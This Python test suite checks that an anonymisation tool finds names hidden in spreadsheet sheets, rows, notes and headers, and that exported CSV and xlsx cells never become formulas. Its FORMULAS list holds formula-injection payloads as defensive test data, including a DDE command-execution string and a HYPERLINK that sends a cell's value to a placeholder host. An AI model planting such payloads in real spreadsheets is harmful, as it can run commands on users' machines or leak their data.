"""H27-H29: hiding places and types of a workbook, and formulas on the way out."""

from __future__ import annotations

import io
from collections.abc import Callable
from datetime import date
from pathlib import Path

import openpyxl
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from adversarial.packages import changed
from medvirk_nlp.project import Project
from medvirk_nlp.reading import read_file
from medvirk_nlp.records import Document
from oracle import HELD, Medvirk, Outcome, leaked

Road = Callable[..., Outcome]
PLACES = {
    "cell": "Ingeborg Kvammen",
    "hidden sheet": "Torunn Fagerbakk",
    "very hidden sheet": "Laila Rognstad",
    "hidden row": "Sander Myrhaug",
    "hidden column": "Odd Hestnes",
    "filtered row": "Berit Langmo",
    "note": "Vegard Stokkeland",
    "defined name": "Guro Mæland",
    "header": "Solfrid Eidsmo",
    "validation": "Camilla Vesterøy",
    "sheet name": "Magnhild Øygarden",
    "thread": "Ståle Tveitaskog",
}
PEOPLE = ["Reidun Brandvold", "Marit Elvebakk", "Terje Brenna"]
"""Author of a note, creator, and person of a thread."""


def said(place: str) -> str:
    return f"det var møte med {PLACES[place]} om skolen"


def hiding_places() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Hva er bra?", "Hva er dårlig?", "Annet"])
    sheet.append([said("cell"), "ventetiden", said("hidden column")])
    sheet.append([said("hidden row"), "brevene", ""])
    sheet.append([said("filtered row"), "møtene", ""])
    sheet.row_dimensions[3].hidden = True
    sheet.row_dimensions[4].hidden = True
    sheet.column_dimensions["C"].hidden = True
    sheet.auto_filter.ref = "A1:C4"
    sheet["B2"].comment = Comment(said("note"), "Reidun Brandvold")
    sheet.oddHeader.center.text = said("header")
    listed = DataValidation(type="list", formula1=f'"{PLACES["validation"]},andre"')
    sheet.add_data_validation(listed)
    listed.add("B3")
    for place, state in (("hidden sheet", "hidden"), ("very hidden sheet", "veryHidden")):
        other = book.create_sheet(f"Ark {place}"[:31])
        other.append(["Hva er bra?"])
        other.append([said(place)])
        other.sheet_state = state
    book.create_sheet(PLACES["sheet name"]).append(["Hva er bra?"])
    book.defined_names["navn"] = DefinedName("navn", attr_text=f'"{PLACES["defined name"]}"')
    book.properties.creator = "Marit Elvebakk"
    stream = io.BytesIO()
    book.save(stream)
    space = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
    return changed(
        stream.getvalue(),
        {
            "xl/threadedComments/threadedComment1.xml": f'<ThreadedComments xmlns="{space}">'
            f'<threadedComment ref="B2" personId="1"><text>{said("thread")}</text>'
            "</threadedComment></ThreadedComments>",
            "xl/persons/person.xml": f'<personList xmlns="{space}">'
            '<person displayName="Terje Brenna" id="1"/></personList>',
        },
    )


def read(path: Path, content: bytes) -> Document:
    path.write_bytes(content)
    return read_file(path, "dok-01", Project())


def test_h27_every_hiding_place_is_read_or_held(tmp_path: Path) -> None:
    """Hidden sheets, rows, columns, notes, names, headers: in the text that is searched."""
    document = read(tmp_path / "a.xlsx", hiding_places())
    text = "\n".join([*(p.text for p in document.passages), *document.known_names])
    missing = [place for place, name in PLACES.items() if name not in text]
    assert missing == [] or document.held


def test_h27_no_hiding_place_leaks(road: Road, notes: Path) -> None:
    """And the workbook that leaves is new: one kind of sheet, nothing hidden, nobody's name."""
    (notes / "b.xlsx").write_bytes(hiding_places())
    outcome = road([*PLACES.values(), *PEOPLE], twice=True)
    book = openpyxl.load_workbook(outcome.report / "kommentarer.xlsx")
    assert {sheet.sheet_state for sheet in book.worksheets} == {"visible"}
    assert not list(book.defined_names)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not any(cell.comment or cell.hyperlink for cell in cells)


def numbers() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Hva er bra?", "Hva er dårlig?"])
    sheet.append([17839150000, "ventetiden"])
    sheet.append([99000017, "ring meg på 99000017"])
    sheet.append(["'17839150000", date(2026, 3, 17)])
    sheet.append(['="17839"&"150000"', "møtene"])
    sheet.append(["#N/A", "slått sammen"])
    sheet.merge_cells("A7:B8")
    sheet["A7"] = "møtet med Ingeborg Kvammen"
    sheet["A6"].data_type = "e"
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_h28_numbers_are_searched_and_uncalculated_formulas_held(road: Road, notes: Path) -> None:
    """A national id as a number is masked; a formula without a value is no empty cell."""
    (notes / "b.xlsx").write_bytes(numbers())
    outcome = road(["17839150000", "99000017", "Ingeborg Kvammen"])
    assert outcome.code == HELD
    assert "held.formula" in outcome.held("dok-02")
    assert "held.error_cell" in outcome.held("dok-02")


FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"klikk") er det jeg vil si om ventetiden',
    "+47 er landet, og ventetiden er for lang",
    "-1+1 er det vi får ut av møtene",
    "@SUM(1) av alle møtene er for mye",
    "=cmd|'/c calc'!A1 sier noe om ventetiden",
    "\t=1 er det vi får ut av brevene",
]


def test_h29_nothing_that_leaves_is_a_formula(road: Road, notes: Path) -> None:
    """Comments that look like formulas leave as text."""
    rows = "".join('"' + line.replace('"', '""') + '"\n' for line in FORMULAS)
    (notes / "=1+1.csv").write_text("Hva kan bli bedre?\n" + rows, encoding="utf-8")
    outcome = road(["cmd.exe"])
    book = openpyxl.load_workbook(outcome.report / "kommentarer.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    assert any("ventetiden" in str(cell.value) for cell in cells)
    assert not any(cell.hyperlink for cell in cells)


def test_h29_csv_cells_are_guarded(medvirk: Medvirk, tmp_path: Path) -> None:
    """In a csv file no cell begins with what a spreadsheet calculates."""
    rows = "".join('"' + line.replace('"', '""') + '"\n' for line in FORMULAS)
    (tmp_path / "a.csv").write_text("Hva kan bli bedre?\n" + rows, encoding="utf-8")
    out = tmp_path / "koder.csv"
    code, _, told = medvirk("code", tmp_path / "a.csv", "-c", "Hva kan bli bedre?", "-o", out)
    assert code == 0, told
    import csv

    with out.open(encoding="utf-8-sig", newline="") as stream:
        cells = [cell for row in csv.reader(stream, delimiter=";") for cell in row]
    assert not [cell for cell in cells if cell[:1] in tuple("=+-@\t\r")]


def test_h27_the_names_are_really_there() -> None:
    """What the tests above do not find is in the file."""
    import zipfile

    with zipfile.ZipFile(io.BytesIO(hiding_places())) as package:
        text = b"".join(map(package.read, package.namelist())).decode("utf-8")
    assert leaked([text], [*PLACES.values(), *PEOPLE]) == [*PLACES.values(), *PEOPLE]
